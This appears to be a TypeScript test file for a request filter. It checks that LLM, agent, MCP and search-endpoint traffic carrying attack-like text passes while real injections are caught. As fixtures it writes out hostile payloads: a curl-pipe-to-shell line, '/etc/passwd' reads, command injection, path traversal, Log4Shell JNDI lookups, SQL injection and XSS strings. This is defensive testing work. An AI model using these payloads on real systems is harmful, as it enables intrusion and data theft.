import { type HonestKinds, posted, sent, testKinds } from './honest-kinds.ts'

const COMMAND = 'Is `curl -s https://get.example/x | sh` safe? It ran ; cat /etc/passwd as well'
const QUERY = 'How do I write SELECT a FROM b WHERE c = 1; DROP TABLE d; in one go?'
const MARKUP = 'Why does <script>alert(1)</script> run, and <img src=x onerror=alert(1)> too?'
const PROGRAM = 'import os\nos.system("cat /etc/passwd")'

function called(values: Readonly<Record<string, unknown>>): ReturnType<typeof sent> {
  return sent({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'save', arguments: values } })
}

/** What is said to language models and agents or searched for, and what stays an attack beside it. */
const KINDS: HonestKinds = {
  'texts that are said to a language model under names of its own interface': {
    honest: [
      sent({ model: 'e', input: [QUERY, MARKUP] }, '/v1/embeddings'),
      sent({ input: COMMAND }, '/openai/deployments/small/embeddings?api-version=2024-10-21'),
      sent({ input: MARKUP }, '/v1/moderations'),
      sent({ input: 'What is http://169.254.169.254/latest, and http://127.0.0.1:8188?' }, '/v1/responses'),
      sent({ prompt: 'a', suffix: PROGRAM }, '/v1/completions'),
      sent({ query: QUERY, documents: [COMMAND, { text: MARKUP }] }, '/v1/rerank'),
      sent({ model: 'e', input: [COMMAND] }, '/api/embed'),
      sent({ inputs: {}, query: QUERY, user: 'ann' }, '/v1/chat-messages'),
      sent({ question: COMMAND }, '/api/v1/prediction/0a1b-2c'),
      sent({ text: QUERY, sender: 'User', endpoint: 'openAI' }, '/api/ask/openAI'),
      sent({ message: MARKUP, mode: 'chat' }, '/api/v1/workspace/docs/stream-chat'),
      sent({ input: { question: MARKUP } }, '/rag/invoke'),
      sent({ batch: [{ body: { output: { content: QUERY } } }] }, '/api/public/ingestion'),
      sent({ input: [{ type: 'function_call_output', output: MARKUP }] }, '/v1/responses'),
      sent({ input: MARKUP, voice: 'a' }, '/v1/audio/speech'),
      sent({ query: MARKUP }, '/v1/vector_stores/vs_a1/search'),
      sent({ role: 'user', content: MARKUP }, '/v1/threads/thread_a1/messages'),
      sent({ additional_instructions: MARKUP }, '/v1/threads/thread_a1/runs'),
      sent({ items: [{ content: [{ text: MARKUP }] }] }, '/v1/conversations/conv_a1/items'),
      sent({ inputText: MARKUP }, '/model/amazon.titan-text-v1/invoke'),
      sent({ inputs: MARKUP, parameters: {} }, '/generate'),
      sent({ inputs: [MARKUP] }, '/embed'),
      sent(
        { input: [{ type: 'function_call', arguments: '{"cmd":"ls -la /tmp; cat /etc/hosts"}' }] },
        '/v1/responses',
      ),
      sent({ ids: ['1'], documents: [COMMAND] }, '/api/v2/tenants/a/databases/b/collections/c/add'),
      sent({ action: 'sendMessage', chatInput: MARKUP }, '/webhook/0a1b-2c/chat'),
      sent({ post: [{ inputs: { messages: [[{ kwargs: { content: MARKUP } }]] } }] }, '/runs/batch'),
    ],
    attacks: [
      sent({ input: [MARKUP] }),
      sent({ query: MARKUP }, '/v1/search'),
      sent({ question: COMMAND }, '/api/v1/prediction'),
      sent({ text: MARKUP }, '/api/ask'),
      sent({ message: MARKUP }, '/api/chat'),
      sent({ message: MARKUP }, '/api/v1/workspace/docs/rename'),
      sent({ title: MARKUP }, '/rag/invoke'),
      sent({ host: '127.0.0.1; cat /etc/passwd' }, '/v1/embeddings'),
      sent({ content: MARKUP }, '/v1/threads/12/messages'),
      sent({ items: [{ text: MARKUP }] }, '/v1/conversations/12/items'),
      sent({ inputs: MARKUP }, '/api/generate'),
      sent({ arguments: '{"cmd":"; cat /etc/passwd"}' }, '/v1/tools'),
      sent({ title: MARKUP }, '/model/amazon.titan-text-v1/invoke'),
      sent({ text: MARKUP }, '/collections/a/products'),
      sent({ chatInput: MARKUP }, '/chat'),
      sent({ message: MARKUP }, '/v1/chat'),
      sent({ input: '${jndi:ldap://x.example/a}' }, '/v1/embeddings'),
      posted('application/x-www-form-urlencoded', `input=${encodeURIComponent(MARKUP)}`, '/v1/embeddings'),
    ],
  },
  'messages of agents, of conversations that are kept, and instructions': {
    honest: [
      sent({ params: { message: { role: 'user', parts: [{ kind: 'text', text: COMMAND }] } } }),
      sent({ variables: { data: { messages: [{ textMessage: { content: COMMAND, role: 'user' } }] } } }),
      sent({
        chat: { history: { messages: { '0a1b2c3d-0000-4000-8000-0a1b2c3d4e5f': { content: MARKUP } } } },
      }),
      sent({ systemInstruction: { parts: [{ text: COMMAND }] } }),
      sent({ system_instruction: { parts: [{ text: QUERY }] } }),
      sent({ appName: 'a', newMessage: { role: 'user', parts: [{ text: MARKUP }] } }, '/run_sse'),
      sent({ jsonrpc: '2.0', id: 3, result: { content: [{ type: 'text', text: MARKUP }] } }, '/mcp'),
      sent({ jsonrpc: '2.0', id: 3, result: { role: 'assistant', content: { text: COMMAND } } }, '/mcp'),
    ],
    attacks: [
      sent({ message: { parts: [{ title: COMMAND }] } }),
      sent({ messages: { ann: { content: MARKUP } } }),
      sent({ messages: [{ title: { content: MARKUP } }] }),
      sent({ parts: [{ text: MARKUP }] }),
      sent({ result: { content: [{ title: MARKUP }] } }),
      sent({ content: [{ text: MARKUP }] }),
    ],
  },
  'notes that a tool of an MCP server keeps': {
    honest: [
      called({ body: COMMAND }),
      called({ note: QUERY }),
      called({ thought: MARKUP }),
      called({ markdown: PROGRAM }),
      called({ entities: [{ name: 'a', observations: [COMMAND, QUERY] }] }),
      called({ observations: [{ entityName: 'a', contents: [MARKUP] }] }),
    ],
    attacks: [
      called({ host: '127.0.0.1; cat /etc/passwd' }),
      called({ repository: 'a$(cat /etc/passwd)' }),
      called({ path: '../../../../etc/passwd' }),
      called({ note: '${jndi:ldap://x.example/a}' }),
      sent({ arguments: { thought: MARKUP } }),
      sent({ entities: [{ observations: [MARKUP] }] }),
    ],
  },
  'what is searched for in logs, queries of flows and messages of commits': {
    honest: [
      sent({ query: { query_string: { query: 'message:"union select" AND NOT path:/etc/passwd' } } }),
      sent({ query: { bool: { must: [{ multi_match: { query: QUERY, fields: ['a'] } }] } } }),
      sent({ nodes: [{ parameters: { query: "UPDATE a SET b = '{{ $json.c }}'; DROP TABLE d;" } }] }),
      sent({ nodes: [{ parameters: { jsCode: PROGRAM } }], connections: {} }),
      sent({ native: { query: "SELECT a FROM b WHERE c = 'd' UNION ALL SELECT e FROM f" } }, '/api/dataset'),
      sent({ dataset_query: { native: { query: "SELECT a FROM b WHERE c = 'd' UNION ALL SELECT 1" } } }),
      sent({ commits: [{ message: 'do not run `rm -rf $(pwd)`; cat .env is enough' }] }),
      sent({ object_attributes: { last_commit: { message: 'drop `curl https://x | sh`; cat a' } } }),
    ],
    attacks: [
      sent({ query: { path: '/etc/passwd; id' } }),
      sent({ query: MARKUP }),
      sent({ parameters: { query: MARKUP } }),
      sent({ message: 'a; cat /etc/passwd' }),
      sent({ commits: [{ author: 'a; cat /etc/passwd' }] }),
      sent({ query: "x' UNION ALL SELECT e FROM f--" }, '/api/dataset'),
      sent({ native: { query: '${jndi:ldap://x.example/a}' } }),
      sent({ commits: [{ message: '${jndi:ldap://x.example/a}' }] }),
    ],
  },
  'what a package says of itself, sent to an index': {
    honest: [
      posted(
        'multipart/form-data; boundary=b',
        `--b\r\nContent-Disposition: form-data; name="description"\r\n\r\n# Shop\n\nA shop with lamps, and a lot of them to choose from.\n\n\`\`\`python\n${PROGRAM}\n\`\`\`\n\n${'Lamps are sold by the dozen and sent by post. '.repeat(8)}\n--b--\r\n`,
        '/legacy/',
      ),
    ],
    attacks: [
      posted(
        'multipart/form-data; boundary=b',
        `--b\r\nContent-Disposition: form-data; name="description"\r\n\r\n${PROGRAM}\n--b--\r\n`,
        '/legacy/',
      ),
      posted(
        'multipart/form-data; boundary=b',
        `--b\r\nContent-Disposition: form-data; name="home_page"\r\n\r\n${PROGRAM}\n--b--\r\n`,
        '/legacy/',
      ),
    ],
  },
}

testKinds(KINDS)
